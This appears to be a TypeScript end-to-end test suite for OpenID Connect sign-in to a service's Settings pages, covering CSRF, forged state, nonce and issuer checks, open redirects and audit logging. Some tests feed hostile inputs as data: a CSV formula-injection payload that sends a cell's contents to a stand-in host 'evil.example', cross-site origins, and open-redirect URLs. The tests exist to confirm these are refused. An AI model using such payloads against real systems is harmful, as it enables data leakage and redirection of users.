// modes: embedded server — sessions in ClickHouse, then in Redis
import { randomUUID } from 'node:crypto';
import { Browser, chromium } from 'playwright-core';
import { freePort } from '../support/local-servers';
import { generateKeyPairSync } from 'node:crypto';
import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { SettingOverrides } from '../../src/config/settings';
import {
  browse,
  CookieJar,
  OIDC_CLIENT,
  OidcProviderOptions,
  RunningOidcProvider,
  signInAtProvider,
  startOidcProvider,
} from '../support/oidc-provider';
import { describeWithTools, systemToolPath } from '../support/system-tools';
import { TestApp, TestOrganization } from '../support/test-app';

/**
 * Sign-in to the Settings pages through a real OpenID Provider (issue 36): oidc-provider in a child process with its
 * own login form, the service configured for it by environment. alice is in finops-admins (mapped to the
 * organisation with api-keys:admin), bob in finops-readers (mapped with cost:read only), carol in no group.
 */
const KEYS = '/v1/admin/api-keys';
const EVENTS = '/v1/admin/audit-events';

/** The service with SSO configured for a fresh organisation and a provider of its own, listening on loopback. */
async function startWithProvider(
  providerOptions: OidcProviderOptions = {},
  settings: SettingOverrides = {},
): Promise<{
  t: TestApp;
  provider: RunningOidcProvider;
  base: string;
  organizationId: string;
  adminKey: TestOrganization;
}> {
  const organizationId = randomUUID();
  const port = await freePort();
  const base = `http://127.0.0.1:${port}`;
  const provider = await startOidcProvider([`${base}/auth/callback`], providerOptions);
  const t = await TestApp.start({
    settings: {
      SSO_ISSUER_URL: provider.issuer,
      SSO_CLIENT_ID: OIDC_CLIENT.clientId,
      SSO_CLIENT_SECRET: OIDC_CLIENT.clientSecret,
      SSO_REDIRECT_URL: `${base}/auth/callback`,
      SSO_SCOPES: 'openid email groups',
      SSO_CLIENT_PRIVATE_KEY_FILE: undefined,
      SSO_GROUP_MAPPINGS: JSON.stringify([
        { group: 'finops-admins', organizationId, scopes: ['api-keys:admin', 'cost:read'] },
        { group: 'finops-readers', organizationId, scopes: ['cost:read'] },
      ]),
      ...settings,
    },
  });
  await t.app.listen(port, '127.0.0.1');
  return { t, provider, base, organizationId, adminKey: await t.keyFor(organizationId, ['api-keys:admin', 'cost:read']) };
}

/** Follows the provider's redirects from `url` until one leads back to `service`: that callback URL, not yet followed. */
async function followToCallback(jar: CookieJar, url: string, service: string): Promise<string> {
  for (let step = 0; step < 10; step++) {
    const location = (await browse(jar, url)).headers.get('location');
    if (!location) throw new Error(`the provider stopped at ${url}`);
    url = new URL(location, url).toString();
    if (new URL(url).origin === service) return url;
  }
  throw new Error('the provider did not redirect back');
}

describe('Sign-in through an OpenID Provider', () => {
  let t: TestApp;
  let provider: RunningOidcProvider;
  let base: string;
  let organizationId: string;
  let adminKey: TestOrganization;

  beforeAll(async () => {
    ({ t, provider, base, organizationId, adminKey } = await startWithProvider());
  });
  afterAll(async () => {
    await t?.close();
    await provider?.stop();
  });

  /** Signs `user` in through the provider's form; the jar then holds the session cookie (if granted). */
  async function signIn(user: string, returnTo = '/settings/api-keys'): Promise<{ jar: CookieJar; callback: Response }> {
    const jar = new CookieJar();
    const back = await signInAtProvider(jar, `${base}/auth/sign-in?returnTo=${encodeURIComponent(returnTo)}`, user);
    return { jar, callback: await browse(jar, back) };
  }
  const asSession = (jar: CookieJar, path: string, init: RequestInit = {}) => browse(jar, `${base}${path}`, init);
  const auditActions = async () =>
    (await t.http.get(EVENTS).set(adminKey.auth)).body.data.events as Array<{
      action: string;
      actor: { kind: string; id: string; email: string | null };
      details: Record<string, unknown>;
    }>;

  it('signs alice in: a Secure, HttpOnly, SameSite=Strict session that administers her organisation, recorded with her as the actor', async () => {
    const { jar, callback } = await signIn('alice');
    expect(callback.status).toBe(302);
    expect(callback.headers.get('location')).toBe('/settings/api-keys');
    const sessionCookie = callback.headers.getSetCookie().find((cookie) => cookie.startsWith('ci_session='))!;
    expect(sessionCookie).toMatch(/HttpOnly/);
    expect(sessionCookie).toMatch(/Secure/);
    expect(sessionCookie).toMatch(/SameSite=Strict/);

    const who = (await (await asSession(jar, '/auth/session')).json()) as { data: unknown };
    expect(who.data).toMatchObject({
      sso: true,
      signedIn: { email: 'alice@example.com', subject: 'alice', organizationId, scopes: ['api-keys:admin', 'cost:read'] },
    });
    expect((await asSession(jar, KEYS)).status).toBe(200);
    const created = await asSession(jar, KEYS, {
      method: 'POST',
      headers: { 'content-type': 'application/json', origin: base },
      body: JSON.stringify({ name: 'made by alice', scopes: ['cost:read'] }),
    });
    expect(created.status).toBe(201);
    const key = ((await created.json()) as { data: { id: string } }).data;

    const events = await auditActions();
    expect(events.find((event) => event.action === 'api-key.created')).toMatchObject({
      actor: { kind: 'sso', id: 'alice', email: 'alice@example.com' },
    });
    expect(events.find((event) => event.action === 'sign-in.succeeded')).toMatchObject({
      actor: { kind: 'sso', id: 'alice', email: 'alice@example.com' },
    });
    // A session is for the Settings pages: the value lists of their data-scope picker, no other data route.
    const data = { method: 'POST', headers: { origin: base, 'content-type': 'application/json' }, body: '{}' };
    expect((await asSession(jar, '/v1/cost-insights/filters', data)).status).toBe(200);
    expect((await asSession(jar, '/v1/cost-insights/data', data)).status).toBe(401);

    // Signed out: the session ends everywhere (the record is gone, not only the cookie).
    const stolenCookie = jar.get(base, 'ci_session')!;
    const out = await asSession(jar, '/auth/sign-out', { method: 'POST', headers: { origin: base } });
    expect(out.status).toBe(200);
    expect(await out.json()).toEqual({ success: true, data: { signedOut: true } });
    const replayed = await fetch(`${base}${KEYS}/${key.id}`, {
      method: 'DELETE',
      headers: { cookie: `ci_session=${stolenCookie}`, origin: base },
    });
    expect(replayed.status).toBe(401);
    expect((await auditActions()).map((event) => event.action)).toContain('sign-out');
  });

  it('refuses a change with the session from another site, and one that names no origin', async () => {
    const { jar } = await signIn('alice');
    const attempt = (headers: Record<string, string>) =>
      asSession(jar, KEYS, {
        method: 'POST',
        headers: { 'content-type': 'application/json', ...headers },
        body: JSON.stringify({ name: 'csrf', scopes: ['cost:read'] }),
      });
    const crossSite = await attempt({ origin: 'https://evil.example' });
    expect(crossSite.status).toBe(403);
    expect(((await crossSite.json()) as { error: { message: string } }).error.message).toContain(`Settings pages at ${base}`);
    expect((await attempt({})).status).toBe(403);
    expect((await attempt({ 'sec-fetch-site': 'same-origin' })).status).toBe(201);
    // Nor can another site sign the person out.
    expect((await asSession(jar, '/auth/sign-out', { method: 'POST', headers: { origin: 'https://evil.example' } })).status).toBe(403);
    expect((await asSession(jar, KEYS)).status).toBe(200);
    const names = ((await t.http.get(KEYS).set(adminKey.auth)).body.data.keys as Array<{ name: string }>).map((key) => key.name);
    expect(names.filter((name) => name === 'csrf')).toHaveLength(1);
    const refusals = (await auditActions()).filter((event) => event.action === 'session.cross-site-refused');
    expect(refusals.map((event) => [event.actor.id, event.details])).toEqual([
      ['alice', { origin: 'an unknown origin', method: 'POST', path: KEYS }],
      ['alice', { origin: 'https://evil.example', method: 'POST', path: KEYS }],
    ]);
  });

  it('grants only the mapped permissions: bob reads but does not administer', async () => {
    const { jar, callback } = await signIn('bob');
    expect(callback.status).toBe(302);
    expect((await asSession(jar, KEYS)).status).toBe(403);
  });

  it('refuses carol, in no mapped group, with a page that says why, and records the refusal', async () => {
    const { jar, callback } = await signIn('carol');
    expect(callback.status).toBe(403);
    expect(callback.headers.getSetCookie().some((cookie) => cookie.startsWith('ci_session=') && !/Max-Age=0/.test(cookie))).toBe(false);
    expect(await callback.text()).toContain('none of your groups');
    expect(jar.get(base, 'ci_session')).toBeUndefined();
    const refusal = (await auditActions()).find((event) => event.action === 'sign-in.failed' && event.actor.id === 'carol');
    expect(refusal).toMatchObject({
      actor: { kind: 'sso', email: 'carol@example.com' },
      details: { reason: expect.stringContaining('none of your groups') },
    });
  });

  it('refuses a forged state and a replayed callback, granting nothing', async () => {
    const jar = new CookieJar();
    const back = await signInAtProvider(jar, `${base}/auth/sign-in`, 'alice');
    const forged = new URL(back);
    forged.searchParams.set('state', 'forged-state');
    const refused = await browse(jar, forged.toString());
    expect(refused.status).toBe(400);
    expect(await refused.text()).toContain('state mismatch');
    // The pending sign-in was used by that attempt: the genuine callback, replayed after it, finds none.
    const replayed = await browse(jar, back);
    expect(replayed.status).toBe(400);
    expect(await replayed.text()).toContain('already used');
    expect(jar.get(base, 'ci_session')).toBeUndefined();
    // A callback from a browser that never started a sign-in.
    expect((await fetch(back, { redirect: 'manual' })).status).toBe(400);
    // None matched a pending sign-in (anyone can send such a callback): none is in the audit trail.
    const reasons = (await auditActions())
      .filter((event) => event.action === 'sign-in.failed')
      .map((event) => String(event.details.reason));
    expect(reasons.filter((reason) => /state mismatch|already used/.test(reason))).toEqual([]);
  });

  it("records a provider's refusal as its error code only: the provider's own (prompt=none, no session at the provider)", async () => {
    const jar = new CookieJar();
    const request = new URL((await browse(jar, `${base}/auth/sign-in`)).headers.get('location')!);
    request.searchParams.set('prompt', 'none');
    const refused = await browse(jar, await followToCallback(jar, request.toString(), base));
    expect(refused.status).toBe(403);
    expect(await refused.text()).toContain('refused the sign-in: login_required');
    expect(jar.get(base, 'ci_session')).toBeUndefined();
    const refusal = (await auditActions()).find((event) => event.action === 'sign-in.failed' && event.details.error === 'login_required');
    expect(refusal?.details).toEqual({
      reason: 'The identity provider refused the sign-in: login_required.',
      error: 'login_required',
      errorDescription: 'End-User authentication is required',
    });
  });

  it('records a forged refusal (3 KB, CR/LF, a spreadsheet formula) only as a fixed word and a cut, cleaned description', async () => {
    const jar = new CookieJar();
    const state = new URL((await browse(jar, `${base}/auth/sign-in`)).headers.get('location')!).searchParams.get('state')!;
    const forged = '=HYPERLINK("https://evil.example/?"&A1,"Open")\r\nreason: all fine\r\n'.repeat(50);
    expect(forged.length).toBeGreaterThan(3000);
    const callback = new URL(`${base}/auth/callback`);
    callback.searchParams.set('state', state);
    callback.searchParams.set('error', forged);
    callback.searchParams.set('error_description', forged);
    const refused = await browse(jar, callback.toString());
    expect(refused.status).toBe(403);
    const events = (await auditActions()).filter((event) => event.action === 'sign-in.failed' && event.details.error !== 'login_required');
    const recorded = events.filter((event) => JSON.stringify(event.details).includes('HYPERLINK'));
    expect(recorded.map((event) => event.details)).toEqual([
      {
        reason: 'The identity provider refused the sign-in: unknown_error.',
        error: 'unknown_error',
        errorDescription: forged.replace(/[\r\n]/g, '').slice(0, 200),
      },
    ]);
    // The CSV export an auditor opens: the event is one record, its details one cell that is no formula.
    const csv = await t.http.get(`${EVENTS}?action=sign-in.failed`).set(adminKey.auth).set('Accept', 'text/csv');
    expect(csv.status).toBe(200);
    const record = csv.text.split('\r\n').filter((line) => line.includes('HYPERLINK'));
    expect(record).toHaveLength(1);
    expect(record[0]).toContain(`,"{""reason"":""The identity provider refused the sign-in: unknown_error.""`);
  });

  it('records nothing for a callback that matches no pending sign-in, whatever it carries', async () => {
    const failures = async () => (await auditActions()).filter((event) => event.action === 'sign-in.failed').length;
    const before = await failures();
    const forged = `${base}/auth/callback?state=guessed&error=access_denied&error_description=${encodeURIComponent('=HYPERLINK("x")\r\n'.repeat(200))}`;
    expect((await fetch(forged, { redirect: 'manual' })).status).toBe(400); // no pending sign-in at all
    const jar = new CookieJar();
    await browse(jar, `${base}/auth/sign-in`);
    const wrongState = await browse(jar, forged); // a pending sign-in, but not this callback's
    expect(wrongState.status).toBe(400);
    expect(await wrongState.text()).toContain('state mismatch');
    expect(await failures()).toBe(before);
  });

  it('refuses an ID token whose nonce is not the one this sign-in sent (the request altered on its way)', async () => {
    const jar = new CookieJar();
    const begun = await browse(jar, `${base}/auth/sign-in`);
    const request = new URL(begun.headers.get('location')!);
    request.searchParams.set('nonce', 'another-nonce');
    const back = await signInAtProvider(jar, `${base}/auth/sign-in`, 'alice', base, request.toString());
    const refused = await browse(jar, back);
    expect(refused.status).toBe(400);
    expect(await refused.text()).toContain('nonce mismatch');
    expect(jar.get(base, 'ci_session')).toBeUndefined();
  });

  it('returns only to a Settings page: no open redirect through returnTo', async () => {
    for (const returnTo of ['https://evil.example/', '//evil.example/settings/api-keys', '/settings/../v1/admin/api-keys']) {
      const { callback } = await signIn('alice', returnTo);
      expect(callback.headers.get('location')).toBe('/settings/api-keys');
    }
    expect((await signIn('alice', '/settings/audit-log')).callback.headers.get('location')).toBe('/settings/audit-log');
  });
});

/**
 * The ID token and the client's own proof, each with a real provider that differs the way real ones can: its clock
 * two hours behind (its ID tokens arrive expired), signing with another algorithm than agreed (the check that also
 * refuses `alg: none`), another provider answering in its place (a mix-up), and a client that proves itself with a
 * private key (private_key_jwt) instead of a secret.
 */
describe('Sign-in: the ID token and the client authentication', () => {
  const started: Array<{ t: TestApp; provider: RunningOidcProvider }> = [];
  afterAll(async () => {
    for (const { t, provider } of started) {
      await t.close();
      await provider.stop();
    }
  });
  async function start(providerOptions: OidcProviderOptions, settings: SettingOverrides = {}) {
    const running = await startWithProvider(providerOptions, settings);
    started.push(running);
    return running;
  }
  async function refusal(base: string, jar: CookieJar, back: string): Promise<string> {
    const callback = await browse(jar, back);
    expect(callback.status).toBe(400);
    expect(jar.get(base, 'ci_session')).toBeUndefined();
    return callback.text();
  }

  it('refuses an expired ID token', async () => {
    const { base } = await start({ clockOffsetSeconds: -2 * 3600 });
    const jar = new CookieJar();
    const back = await signInAtProvider(jar, `${base}/auth/sign-in`, 'alice');
    expect(await refusal(base, jar, back)).toMatch(/expired/);
  });

  it('refuses an ID token signed with another algorithm than RS256', async () => {
    const { base } = await start({ idTokenAlg: 'ES256' });
    const jar = new CookieJar();
    const back = await signInAtProvider(jar, `${base}/auth/sign-in`, 'alice');
    expect(await refusal(base, jar, back)).toContain('unexpected JWT alg received, expected RS256, got: ES256');
  });

  it('refuses an answer from another provider (mix-up), recording the refusal', async () => {
    const { t, base, adminKey } = await start({});
    const impostor = await startOidcProvider([`${base}/auth/callback`]);
    try {
      const jar = new CookieJar();
      const begun = await browse(jar, `${base}/auth/sign-in`);
      // The same authorization request, answered by the other provider (which knows a client of the same name).
      const request = new URL(begun.headers.get('location')!);
      const elsewhere = `${impostor.issuer}${request.pathname}${request.search}`;
      const back = await signInAtProvider(jar, `${base}/auth/sign-in`, 'alice', base, elsewhere);
      expect(await refusal(base, jar, back)).toContain('iss mismatch');
      const events = (await t.http.get(EVENTS).set(adminKey.auth)).body.data.events as Array<{
        action: string;
        details: { reason?: string };
      }>;
      expect(events.filter((event) => event.action === 'sign-in.failed').map((event) => event.details.reason)).toEqual([
        expect.stringContaining('iss mismatch'),
      ]);
    } finally {
      await impostor.stop();
    }
  });

  it('refuses a code issued to another application (its ID token is for another audience), recording the refusal', async () => {
    const { t, base, adminKey } = await start({});
    const jar = new CookieJar();
    const begun = await browse(jar, `${base}/auth/sign-in`);
    // This sign-in's request (state, nonce, PKCE challenge), made in the name of another application of the provider.
    const request = new URL(begun.headers.get('location')!);
    request.searchParams.set('client_id', 'another-application');
    const back = await signInAtProvider(jar, `${base}/auth/sign-in`, 'alice', base, request.toString());
    expect(await refusal(base, jar, back)).toContain('invalid_grant');
    const events = (await t.http.get(EVENTS).set(adminKey.auth)).body.data.events as Array<{
      action: string;
      details: { reason?: string };
    }>;
    expect(events.filter((event) => event.action === 'sign-in.failed').map((event) => event.details.reason)).toEqual([
      expect.stringContaining('invalid_grant'),
    ]);
  });

  it("follows a rotation of the provider's signing keys: the new key is fetched, the sign-in succeeds", async () => {
    const { base, provider } = await start({});
    const signInWorks = async () => {
      const jar = new CookieJar();
      const callback = await browse(jar, await signInAtProvider(jar, `${base}/auth/sign-in`, 'alice'));
      return [callback.status, jar.get(base, 'ci_session') !== undefined];
    };
    expect(await signInWorks()).toEqual([302, true]);
    // The same issuer restarted with signing keys of its own: the service knows only the old ones.
    await provider.stop();
    const rotated = await startOidcProvider([`${base}/auth/callback`], { port: Number(new URL(provider.issuer).port) });
    try {
      expect(rotated.issuer).toBe(provider.issuer);
      expect(await signInWorks()).toEqual([302, true]);
    } finally {
      await rotated.stop();
    }
  });

  it('signs in with private_key_jwt: the client proves itself with its key, no secret configured', async () => {
    const { publicKey, privateKey } = generateKeyPairSync('rsa', { modulusLength: 2048 });
    const dir = join(process.env.E2E_TMP_DIR ?? '.test-tmp', `sso-${randomUUID()}`);
    mkdirSync(dir, { recursive: true });
    const keyFile = join(dir, 'client-key.pem');
    writeFileSync(keyFile, privateKey.export({ format: 'pem', type: 'pkcs8' }));
    const { base } = await start(
      { clientJwks: { keys: [{ ...publicKey.export({ format: 'jwk' }), alg: 'RS256', use: 'sig' }] } },
      { SSO_CLIENT_SECRET: undefined, SSO_CLIENT_PRIVATE_KEY_FILE: keyFile },
    );
    const jar = new CookieJar();
    const back = await signInAtProvider(jar, `${base}/auth/sign-in`, 'alice');
    expect((await browse(jar, back)).status).toBe(302);
    expect(jar.get(base, 'ci_session')).toBeDefined();
  });
});

describeWithTools(['chromium'])("Sign-in in the browser, through the provider's own login form", () => {
  let t: TestApp;
  let provider: RunningOidcProvider;
  let base: string;
  let browser: Browser;

  beforeAll(async () => {
    ({ t, provider, base } = await startWithProvider());
    browser = await chromium.launch({
      executablePath: systemToolPath('chromium'),
      args: ['--headless', '--no-sandbox', '--disable-gpu', '--disable-background-networking', '--disable-component-update'],
    });
  }, 120_000);
  afterAll(async () => {
    await browser?.close();
    await t?.close();
    await provider?.stop();
  });

  it('signs alice in, creates and revokes a key, shows both in the audit log under her name, and signs out', async () => {
    const page = await browser.newPage();
    const errors: string[] = [];
    page.on('pageerror', (error) => errors.push(error.message));
    await page.goto(`${base}/settings/api-keys`);
    // With an identity provider configured, the page offers it and no key form.
    await page.getByRole('link', { name: /identity provider/ }).click();
    await page.locator('input[name="login"]').fill('alice');
    await page.locator('input[name="password"]').fill('any password');
    await page.locator('button[type="submit"]').click();
    await page.getByRole('heading', { name: 'API keys' }).waitFor();
    expect(page.url()).toBe(`${base}/settings/api-keys`);
    await expect(page.locator('#signed-in-as').textContent()).resolves.toBe('Signed in as alice@example.com');
    expect(await page.locator('#admin-key').isVisible()).toBe(false);
    // The session cookie is out of the page's reach (HttpOnly), and nothing is kept in its storage.
    expect(await page.evaluate('[document.cookie.includes("ci_session"), sessionStorage.length, localStorage.length]')).toEqual([
      false,
      0,
      0,
    ]);

    await page.getByLabel('Name').fill('made in the browser');
    await page.getByLabel('cost:read').check();
    await page.getByRole('button', { name: 'Create key' }).click();
    await page.getByText('shown only this once').waitFor();
    await page.getByRole('button', { name: 'Done' }).click();
    page.once('dialog', (dialog) => void dialog.accept());
    await page
      .locator('tr', { hasText: 'made in the browser' })
      .getByRole('button', { name: /Revoke/ })
      .click();
    await page.locator('tr', { hasText: 'made in the browser' }).filter({ hasText: 'Revoked' }).waitFor();

    await page.getByRole('link', { name: 'Audit log' }).click();
    await page.getByRole('heading', { name: 'Audit log' }).waitFor();
    for (const action of ['sign-in.succeeded', 'api-key.created', 'api-key.revoked']) {
      const row = page.locator(`#event-rows tr[data-action="${action}"]`).first();
      await row.waitFor();
      await expect(row.locator('td').nth(2).textContent()).resolves.toBe('alice@example.com (alice)');
    }

    await page.getByRole('button', { name: 'Sign out' }).click();
    await page.getByRole('link', { name: /identity provider/ }).waitFor();
    // Ended on the service, not only in this page: a reload is signed out.
    await page.reload();
    await page.getByRole('link', { name: /identity provider/ }).waitFor();
    expect(await page.locator('#audit').isVisible()).toBe(false);
    expect(errors).toEqual([]);
  });
});
